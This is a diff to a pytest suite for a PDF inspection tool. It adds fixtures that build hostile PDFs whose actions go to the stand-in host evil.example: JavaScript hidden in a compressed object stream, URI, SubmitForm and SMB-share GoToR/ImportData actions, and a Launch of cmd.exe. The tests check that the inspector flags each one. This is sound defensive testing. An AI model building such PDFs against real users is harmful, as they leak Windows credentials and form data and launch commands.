@@ -108,7 +108,11 @@ def pdf_with_embedded_file() -> bytes:
     return _bytes(writer)
 
 
-def pdf_with_javascript_in_object_stream() -> bytes:
+def pdf_with_javascript_in_object_stream(
+    action: bytes = b"<</Type/Action/S/JavaScript/JS(app.launchURL\\('https://evil.example/'\\))>>",
+    *,
+    action_index: int = 3,
+) -> bytes:
     """The catalog and its OpenAction JavaScript inside a Flate-compressed object stream.
 
     pypdf 7 writes no object streams (its `compress_identical_objects` only deduplicates),
@@ -119,7 +123,7 @@ def pdf_with_javascript_in_object_stream() -> bytes:
         1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
         2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
         3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
-        4: b"<</Type/Action/S/JavaScript/JS(app.launchURL\\('https://evil.example/'\\))>>",
+        4: action,
     }
     body = b""
     offsets = []
@@ -138,7 +142,8 @@ def pdf_with_javascript_in_object_stream() -> bytes:
     xref_offset = len(out)
     # Entries: type (1 byte), field 2 (2 bytes), field 3 (2 bytes) — /W [1 2 2].
     rows = [bytes([0, 0, 0, 0xFF, 0xFF])]  # object 0: head of the free list
-    rows += [bytes([2, 0, 5, 0, index]) for index in range(len(objects))]  # 1-4 in stream 5
+    rows += [bytes([2, 0, 5, 0, index]) for index in range(len(objects) - 1)]  # 1-3 in stream 5
+    rows.append(bytes([2, 0, 5, 0, action_index]))  # 4: the action, where the xref says
     rows.append(bytes([1]) + stm_offset.to_bytes(2, "big") + b"\x00\x00")  # 5: at offset
     rows.append(bytes([1]) + xref_offset.to_bytes(2, "big") + b"\x00\x00")  # 6: this stream
     table = b"".join(rows)
@@ -148,6 +153,39 @@ def pdf_with_javascript_in_object_stream() -> bytes:
     out += table + b"\nendstream\nendobj\n"
     out += f"startxref\n{xref_offset}\n%%EOF\n".encode()
     return bytes(out)
+
+
+def pdf_with_link_action(action: DictionaryObject) -> bytes:
+    """A link annotation on the first page whose action is `action` (clicked, not opened)."""
+    writer = _writer()
+    annotation = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 700, 300, 720)]),
+            NameObject("/A"): action,
+        }
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    return _bytes(writer)
+
+
+def _action(kind: str, **entries: str) -> DictionaryObject:
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = TextStringObject(value)
+    return action
+
+
+# Actions that leave the document: to a web address, to another file (an SMB share leaks the
+# reader's Windows credentials), or that send or pull form data.
+ACTION_ATTACKS = {
+    "uri": (_action("/URI", URI="https://evil.example/?leak"), "uri_action"),
+    "gotor": (_action("/GoToR", F="\\\\evil.example\\share\\next.pdf"), "remote_goto"),
+    "submit_form": (_action("/SubmitForm", F="https://evil.example/collect"), "submit_form"),
+    "import_data": (_action("/ImportData", F="\\\\evil.example\\share\\data.fdf"), "import_data"),
+    "launch": (_action("/Launch", F="C:\\Windows\\System32\\cmd.exe"), "launch_action"),
+}
 
 
 # --- what is accepted ------------------------------------------------------------------------
@@ -316,3 +354,37 @@ def test_an_incremental_update_cut_after_the_first_eof_is_refused() -> None:
     cut = VALID_PDF + b"\n5 0 obj\n<< /Type /Annot /Subtype /Link"
     with pytest.raises(InvalidDocument, match="truncated"):
         inspect(cut, "application/pdf")
+
+
+@pytest.mark.parametrize(("action", "expected"), ACTION_ATTACKS.values(), ids=ACTION_ATTACKS)
+def test_attack_a_link_that_leaves_the_document_is_flagged(
+    action: DictionaryObject, expected: str
+) -> None:
+    report = inspect(pdf_with_link_action(action), "application/pdf")
+    assert report.active_content
+    assert expected in report.warnings
+
+
+@pytest.mark.parametrize(
+    ("action", "expected"),
+    [
+        (b"<</Type/Action/S/URI/URI(https://evil.example/)>>", "uri_action"),
+        (b"<</Type/Action/S/GoToR/F(//evil.example/share/x.pdf)/D[0/Fit]>>", "remote_goto"),
+    ],
+    ids=["uri", "gotor"],
+)
+def test_attack_an_action_hidden_in_a_compressed_object_stream_is_flagged(
+    action: bytes, expected: str
+) -> None:
+    report = inspect(pdf_with_javascript_in_object_stream(action), "application/pdf")
+    assert report.active_content
+    assert expected in report.warnings
+
+
+def test_attack_an_object_pypdf_cannot_read_is_flagged_never_trusted() -> None:
+    # The OpenAction's dictionary is left open: pypdf gives up on that object (and would have
+    # reported the file clean), while a lenient viewer may still read and run it.
+    data = pdf_with_javascript_in_object_stream(b"<</Type/Action/S/JavaScript/JS(x)")
+    report = inspect(data, "application/pdf")
+    assert report.active_content
+    assert "unparsed_content" in report.warnings
